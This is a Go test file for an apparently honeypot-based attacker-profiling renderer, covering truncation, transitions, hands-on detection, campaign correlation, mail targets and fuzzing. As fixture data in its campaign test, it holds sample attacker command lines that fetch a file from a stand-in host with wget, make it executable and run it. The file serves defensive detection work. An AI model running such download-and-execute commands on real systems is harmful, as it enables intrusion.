// checkTruncated checks that truncated names exactly the lists of which
// something is missing.
func checkTruncated(t *testing.T, name string, m map[string]any, s *state.Attacker) {
	t.Helper()
	truncated := map[string]bool{}
	names, _ := m["truncated"].([]any)
	for _, n := range names {
		truncated[n.(string)] = true
	}
	for field, seen := range map[string]int{
		"services": s.Services.Len(), "deckies": s.Deckies.Len(), "hops": len(s.Hops.Items()), "commands": len(s.Commands.Items()),
		"credentials": s.Credentials.Len(), "fingerprints": s.Fingerprints.Len(), "artifacts": s.Artifacts.Len(), "ip_leaks": s.Leaks.Len(),
		"alerts": s.Alerts.Len(), "movement.dwell": s.Deckies.Len(), "behavior.tool_evidence": s.Tools.Len(), "behavior.kex_order": s.KexOrders.Len(),
		"behavior.technique_evidence": s.Techniques.Len(), "behavior.conclusions": s.Conclusions.Len(), "sensors": s.Sensors.Len(), "ports": s.Ports.Len(),
	} {
		list, _ := at(m, field).([]any)
		cut := map[string]bool{
			"services": s.Services.Truncated(), "deckies": s.Deckies.Truncated(), "hops": s.Hops.Truncated(), "commands": s.Commands.Truncated(),
			"credentials": s.Credentials.Truncated(), "fingerprints": s.Fingerprints.Truncated(), "artifacts": s.Artifacts.Truncated(),
			"ip_leaks": s.Leaks.Truncated(), "alerts": s.Alerts.Truncated(), "movement.dwell": s.Deckies.Truncated(),
			"behavior.tool_evidence": s.Tools.Truncated(), "behavior.kex_order": s.KexOrders.Truncated(),
			"behavior.technique_evidence": s.Techniques.Truncated(), "behavior.conclusions": s.Conclusions.Truncated(), "sensors": s.Sensors.Truncated(), "ports": s.Ports.Truncated(),
		}[field]
		if field == "commands" && longest(s.Commands.Items()) {
			cut = true
		}
		if missing := cut || len(list) < seen; missing != truncated[field] {
			t.Errorf("%s: %s shows %d of %d, the fold cut it: %v; truncated names it: %v", name, field, len(list), seen, cut, truncated[field])
		}
	}
}

// What is not the core of a profile is never in its way: where it fails, the
// document goes without it.
func TestCoreSurvivesItsParts(t *testing.T) {
	failed := map[string]int{}
	r := renderer(t, Options{OnFailure: func(part string, err error) {
		if err == nil {
			t.Errorf("%s failed without an error", part)
		}
		failed[part]++
	}})
	s := folded(r, everyEvent())
	whole := decode(t, r.AppendAttacker(nil, headOf(someone), s))
	if len(failed) > 0 {
		t.Fatalf("failed: %v", failed)
	}
	r.o.Rules, r.o.Files = nil, &enrich.Files{}
	r.judged = judged{}
	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
	for _, name := range []string{"event_count", "services", "deckies", "hops", "commands", "credentials", "fingerprints", "artifacts", "transitions", "threat.indicator.ip", "related", "truncated"} {
		if got, want := fmt.Sprint(at(doc, name)), fmt.Sprint(at(whole, name)); got != want {
			t.Errorf("%s is %s, want %s", name, got, want)
		}
	}
	if at(doc, "behavior.class") != "unknown" || at(doc, "risk.level") != "Unknown" {
		t.Errorf("class %v, risk %v", at(doc, "behavior.class"), at(doc, "risk"))
	}
	decode(t, r.AppendActivity(nil, headOf(someone), morning.Hour(), new(state.Activity)))
	if len(r.Transitions(nil, headOf(someone), s)) == 0 || len(r.AppendSummary(nil, headOf(someone), s)) == 0 {
		t.Error("no transitions or no summary")
	}
	if failed["behavior"] != 1 || failed["enrichment"] != 2 {
		t.Errorf("failed: %v", failed)
	}
}

// The smaller documents stay within the budget without any list being cut to
// fit.
func TestHoursAndTargetsAreBounded(t *testing.T) {
	r := located(t, Options{})
	long := func(i, n int) string { return fmt.Sprint(i) + strings.Repeat(`"\`, n)[:n-4] }
	hour, target := new(state.Activity), new(state.Target)
	for i := range 500 {
		ev := &event.Event{Proof: event.ByConnection, Time: morning + event.Time(i), Decky: long(i, event.MaxName), Service: long(i, event.MaxService), Evidence: []event.Evidence{
			{Kind: event.Command, A: long(i, event.MaxCommand/(1+i%20))},
			{Kind: event.Recipient, A: "acme.com", Outcome: event.Success},
		}}
		hour.Fold(new(event.Arena), long(i, event.MaxName), []*event.Event{ev})
		target.Fold(long(i, event.MaxName), "acme.com", []*event.Event{ev})
	}
	h := networkHead()
	h.State = make([]byte, maxEnvelope+len(hour.Append(nil)))
	doc := r.AppendActivity(nil, h, morning.Hour(), hour)
	h.State = make([]byte, maxEnvelope+len(target.Append(nil)))
	other := r.AppendTarget(nil, h, "acme.com", target)
	t.Logf("an hour takes %d bytes, a mail target %d", len(doc), len(other))
	if len(doc) > documentBudget || len(other) > documentBudget {
		t.Errorf("an hour takes %d bytes, a mail target %d; allowed are %d", len(doc), len(other), documentBudget)
	}
	for name, m := range map[string]map[string]any{"hour": decode(t, doc), "target": decode(t, other)} {
		want := "[deckies sensors services]"
		if name == "hour" {
			want = "[command.line commands deckies observer.name services]"
		}
		if got := fmt.Sprint(m["truncated"]); got != want {
			t.Errorf("%s: truncated is %s, want %s", name, got, want)
		}
	}
}

// A profile within its bounds shows everything.
func TestNothingIsCutWithoutNeed(t *testing.T) {
	r := renderer(t, Options{})
	s, _ := stateOf(r, busy(2000))
	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
	for name, want := range map[string]int{"commands": 200, "credentials": 200, "deckies": 40} {
		// Beside them those that came first, in lists that are full.
		if list, _ := at(doc, name).([]any); len(list) < want || len(list) > want+state.LimitCredentials.Firsts {
			t.Errorf("%s has %d elements, want %d", name, len(list), want)
		}
	}
}

func TestTransitions(t *testing.T) {
	r := renderer(t, Options{})
	s := folded(r, everyEvent())
	var got []string
	for _, crossed := range r.Transitions(nil, headOf(someone), s) {
		got = append(got, crossed.Action+" "+crossed.Value+" "+string(appendTime(nil, crossed.Time))[11:19])
	}
	want := []string{
		"observed  08:00:00", "traversal  08:04:00", "login_success  08:02:00", "hands_on  08:03:00",
		"class slow_scan 08:16:00", "stage looking 08:00:00", "stage attempting 08:01:00", "stage inside 08:02:00", "risk Low 08:16:00", "risk Moderate 08:16:00", "risk High 08:16:00",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	// Nobody is there whom only our own prober saw.
	probed := new(state.Attacker)
	probed.Fold(new(event.Arena), "", false, []*event.Event{{Proof: event.ByConnection, Time: morning, Role: event.Prober, Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "jarm", B: "x"}}}})
	if got := r.Transitions(nil, headOf(someone), probed); len(got) != 0 {
		t.Errorf("our own probe crossed %v", got)
	}
	doc := decode(t, r.AppendAttacker(nil, headOf(someone), probed))
	if at(doc, "event_count") != 0.0 || at(doc, "first_seen") != nil || fmt.Sprint(at(doc, "fingerprint.jarm")) != "[x]" {
		t.Errorf("our own probe counts: %v", doc)
	}
}

func TestHandsOn(t *testing.T) {
	login := func(after event.Time, outcome event.Outcome) *event.Event {
		return &event.Event{Proof: event.ByConnection, Time: morning + after, Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: outcome}}}
	}
	command := func(after event.Time) *event.Event {
		return &event.Event{Proof: event.ByConnection, Time: morning + after, Evidence: []event.Evidence{{Kind: event.Command, A: "id"}}}
	}
	for name, c := range map[string]struct {
		events []*event.Event
		want   event.Time
	}{
		"no command":                {[]*event.Event{login(1, event.Success)}, event.Never},
		"no success":                {[]*event.Event{login(1, event.Failure), command(2)}, event.Never},
		"commands before only":      {[]*event.Event{command(1), login(2, event.Success)}, event.Never},
		"at once":                   {[]*event.Event{login(1, event.Success), command(1)}, morning + 1},
		"first command after":       {[]*event.Event{command(5), login(1, event.Success), command(9)}, morning + 5},
		"commands before and after": {[]*event.Event{command(1), login(3, event.Success), command(9)}, morning + 3},
	} {
		s := new(state.Attacker)
		s.Fold(new(event.Arena), "", false, c.events)
		if got := handsOn(s); got != c.want {
			t.Errorf("%s: %d, want %d", name, got-morning, c.want-morning)
		}
	}
}

func TestTraversedWhereHopsAreFull(t *testing.T) {
	s := new(state.Attacker)
	for i := range 2 * state.LimitHops.Keys {
		s.Fold(new(event.Arena), "", false, []*event.Event{{Proof: event.ByConnection, Time: morning + event.Time(i), Decky: "decky-01", Service: fmt.Sprint(i)}})
	}
	if got := traversed(s); got != event.Never {
		t.Errorf("one decky is no traversal, but it was at %d", got)
	}
	s.Fold(new(event.Arena), "", false, []*event.Event{{Proof: event.ByConnection, Time: morning + 5000, Decky: "decky-02"}, {Proof: event.ByConnection, Time: morning + 6000, Decky: "decky-03"}})
	if got := traversed(s); got != morning+5000 {
		t.Errorf("at %d, want 5000", got-morning)
	}
}

// Attackers that bring the same share keys; others don't.
func TestCampaigns(t *testing.T) {
	r := renderer(t, Options{})
	attacker := func(service, hassh string, passwords []string, commands ...string) *state.Attacker {
		ev := &event.Event{Proof: event.ByConnection, Time: morning, Service: service, Decky: service, Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "hassh", B: hassh}}}
		for _, p := range passwords {
			e := event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: p}
			copy(e.Digest[:], p)
			ev.Evidence = append(ev.Evidence, e)
		}
		events := []*event.Event{ev}
		for i, c := range commands {
			events = append(events, &event.Event{Proof: event.ByConnection, Time: morning + event.Time(i), Service: service, Evidence: []event.Evidence{{Kind: event.Command, A: c}}})
		}
		s := new(state.Attacker)
		s.Fold(new(event.Arena), "", false, events)
		return s
	}
	keys := func(s *state.Attacker) map[string]bool {
		list, _ := at(decode(t, r.AppendAttacker(nil, headOf(someone), s)), "campaign.keys").([]any)
		set := map[string]bool{}
		for _, k := range list {
			set[k.(string)] = true
		}
		return set
	}
	shared := func(a, b map[string]bool) string {
		var kinds []string
		for k := range a {
			if b[k] {
				kind, _, _ := strings.Cut(k, ":")
				kinds = append(kinds, kind)
			}
		}
		slices.Sort(kinds)
		return strings.Join(kinds, " ")
	}
	list := []string{"toor", "admin", "123456"}
	one := keys(attacker("ssh", "h1", list, "cd /tmp; wget http://a/x1", "chmod 777 x1; ./x1"))
	for name, c := range map[string]struct {
		s    *state.Attacker
		want string
	}{
		"the same elsewhere": {attacker("telnet", "h1", []string{"123456", "toor", "admin"}, "cd /tmp; wget http://b/y2", "chmod 777 y2; ./y2"), "credentials toolchain"},
		"another client":     {attacker("ssh", "h2", list, "cd /tmp; wget http://a/x1", "chmod 777 x1; ./x1"), "credentials"},
		"another order":      {attacker("ssh", "h1", list, "wget http://a/x1; cd /tmp", "chmod 777 x1; ./x1"), "credentials"},
		"one password more":  {attacker("ssh", "h1", append(list, "x"), "cd /tmp; wget http://a/x1", "chmod 777 x1; ./x1"), "toolchain"},
		"nothing in common":  {attacker("ssh", "h3", []string{"a", "b", "c"}, "uname", "id", "w"), ""},
		"too little to tell": {attacker("ssh", "h1", list[:2], "uname -a"), ""},
	} {
		if got := shared(one, keys(c.s)); got != c.want {
			t.Errorf("%s: shared are %q, want %q", name, got, c.want)
		}
	}
	if len(keys(attacker("ssh", "h1", list[:2], "uname -a"))) != 0 {
		t.Error("two passwords and a command make a campaign")
	}
	file := func(sha string) *state.Attacker {
		s := new(state.Attacker)
		s.Fold(new(event.Arena), "", false, []*event.Event{{Proof: event.ByConnection, Time: morning, Evidence: []event.Evidence{{Kind: event.Artifact, A: sha, C: "file"}}}})
		return s
	}
	if got := shared(keys(file("ab")), keys(file("ab"))); got != "payload" {
		t.Errorf("the same file: %q", got)
	}
	if got := shared(keys(file("ab")), keys(file("cd"))); got != "" {
		t.Errorf("another file: %q", got)
	}
}

func TestTarget(t *testing.T) {
	r := renderer(t, Options{})
	s := new(state.Target)
	s.Fold("sensor-1", "mail.acme.co.uk", []*event.Event{
		{Proof: event.ByConnection, Time: morning, Service: "smtp_relay", Decky: "decky-06", Evidence: []event.Evidence{{Kind: event.Recipient, A: "mail.acme.co.uk", Outcome: event.Success}, {Kind: event.Recipient, A: "mail.acme.co.uk", Outcome: event.Failure}, {Kind: event.Message, A: "mail.acme.co.uk"}}},
	})
	doc := decode(t, r.AppendTarget(nil, headOf(someone), "mail.acme.co.uk", s))
	for name, want := range map[string]any{
		"domain": "mail.acme.co.uk", "registrable_domain": "acme.co.uk", "count": 1.0, "rcpt_accepted_count": 1.0, "rcpt_denied_count": 1.0, "message_count": 1.0, "ip": "185.220.101.4",
	} {
		if got := at(doc, name); got != want {
			t.Errorf("%s is %v, want %v", name, got, want)
		}
	}
	if got := at(decode(t, r.AppendTarget(nil, headOf(someone), "co.uk", s)), "registrable_domain"); got != nil {
		t.Errorf("co.uk belongs to %v", got)
	}
}

func TestSummaryOfAnotherVersion(t *testing.T) {
	r := renderer(t, Options{})
	for _, v := range []string{"", "\xff", "\x91\x01", strings.Repeat("\x99", 20)} {
		s := new(state.Activity)
		s.Summary = law.Latest{Time: 1, Value: v}
		doc := decode(t, r.AppendActivity(nil, headOf(someone), morning.Hour(), s))
		if at(doc, "risk.score") != nil || at(doc, "source.ip") != "185.220.101.4" {
			t.Errorf("%q: %v", v, doc)
		}
	}
}

func TestOptions(t *testing.T) {
	for name, o := range map[string]Options{"tlp": {TLP: "PURPLE"}, "secrets": {Secrets: 9}} {
		if _, err := New(o); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	if r := renderer(t, Options{TLP: "amber+strict"}); r.o.TLP != "AMBER+STRICT" {
		t.Errorf("tlp is %s", r.o.TLP)
	}
}

// Whatever a stored state holds, as long as it can be read, it makes a
// document that can be read.
func FuzzRender(f *testing.F) {
	r, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Add(folded(r, everyEvent()).Append(nil))
	f.Add(folded(r, randomEvents(rand.New(rand.NewPCG(1, 1)), 30)).Append(nil))
	f.Add(new(state.Attacker).Append(nil))
	f.Fuzz(func(t *testing.T, stored []byte) {
		s := new(state.Attacker)
		if s.Decode(stored) != nil {
			return
		}
		h := headOf(someone)
		decode(t, r.AppendAttacker(nil, h, s))
		for _, crossed := range r.Transitions(nil, h, s) {
			decode(t, r.AppendTransition(nil, h, crossed, s))
		}
		hour := new(state.Activity)
		hour.Summary.Add(1, string(r.AppendSummary(nil, h, s)))
		decode(t, r.AppendActivity(nil, h, morning.Hour(), hour))
	})
}
